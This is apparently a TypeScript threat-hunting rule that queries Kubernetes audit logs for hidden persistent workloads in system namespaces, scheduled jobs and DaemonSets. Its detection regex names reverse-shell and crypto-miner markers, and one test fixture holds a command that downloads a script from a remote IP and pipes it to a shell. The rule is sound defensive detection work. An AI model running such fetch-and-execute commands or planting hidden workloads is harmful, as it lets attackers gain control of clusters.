import { request } from '../example-request';
import { SYSTEM_NAMESPACES, WITH_OWN_WILL } from '../identities';
import type { ReadyHunt } from '../ready-hunt';

export const hiddenWorkloads: ReadyHunt = {
  name: 'hidden-workloads',
  title: 'Workloads made to stay and to hide',
  hypothesis: 'Somebody leaves a program in the cluster where nobody looks: among the system’s own, or on a schedule.',
  type: 'audit',
  tactics: ['Persistence', 'Defense Evasion'],
  techniques: ['T1053.007', 'T1036.005', 'T1610', 'T1136'],
  lookFor:
    'Names that sound like parts of the system but were made by a person; jobs that download what they run; a DaemonSet that puts a program on every node.',
  falsePositives:
    'Installations and upgrades of the platform by its administrators, and batch jobs that belong to an application.',
  next: [
    { title: 'What it runs', q: 'type:audit name:"NAME" pod.commands:* | count by pod.commands, images' },
    { title: 'What its pods did', q: 'pod:"NAME*" | count by type, message' },
    { title: 'What else the user made', q: 'type:audit user:"NAME" verb:create | count by resource, namespace, name' },
  ],
  steps: [
    {
      title: 'Made in namespaces of the system',
      types: ['audit'],
      q: `type:audit verb:create -subresource:* not status>=400 resource:(pods or serviceaccounts or deployments or daemonsets or statefulsets or jobs or cronjobs) ${SYSTEM_NAMESPACES} ${WITH_OWN_WILL} | count by user, namespace, resource, name`,
      onSample: { lastDay: 2, quietDays: 0 },
      hits: [request({ user: 'ann', verb: 'create', resource: 'cronjobs', namespace: 'kube-system', status: 201 })],
      misses: [
        request({ user: 'ann', verb: 'create', resource: 'cronjobs', namespace: 'shop', status: 201 }),
        request({
          user: 'system:serviceaccount:kube-system:job-controller',
          verb: 'create',
          resource: 'pods',
          namespace: 'kube-system',
        }),
      ],
    },
    {
      title: 'On a schedule, or on every node',
      types: ['audit'],
      q: `type:audit verb:(create or update or patch) -subresource:* not status>=400 resource:(cronjobs or daemonsets) ${WITH_OWN_WILL} | count by user, verb, namespace, resource, name`,
      onSample: { lastDay: 1, quietDays: 0 },
      hits: [request({ user: 'ann', verb: 'create', resource: 'daemonsets', namespace: 'shop', status: 201 })],
      misses: [
        request({ user: 'ann', verb: 'create', resource: 'deployments', namespace: 'shop', status: 201 }),
        request({ user: 'ann', verb: 'patch', resource: 'cronjobs', subresource: 'status', namespace: 'shop' }),
      ],
    },
    {
      title: 'That download what they run',
      types: ['audit'],
      q: String.raw`type:audit verb:(create or update or patch) not status>=400 pod.commands:/((curl|wget) .*\| *(ba|da|z|k)?sh|base64 (-d|--decode)|\/dev\/(tcp|udp)\/|mkfifo|stratum\+tcp|xmrig)/ | count by user, namespace, resource, name, pod.commands`,
      needs: { bodiesOf: ['pods', 'deployments', 'daemonsets', 'statefulsets', 'jobs', 'cronjobs'] },
      onSample: { lastDay: 1, quietDays: 0 },
      hits: [
        request(
          { user: 'ann', verb: 'create', resource: 'cronjobs', status: 201 },
          { 'pod.commands': 'sh -c wget -qO- http://203.0.113.9/c | sh' },
        ),
      ],
      misses: [
        request(
          { user: 'ann', verb: 'create', resource: 'jobs', status: 201 },
          { 'pod.commands': 'wget http://api/health' },
        ),
      ],
    },
  ],
};
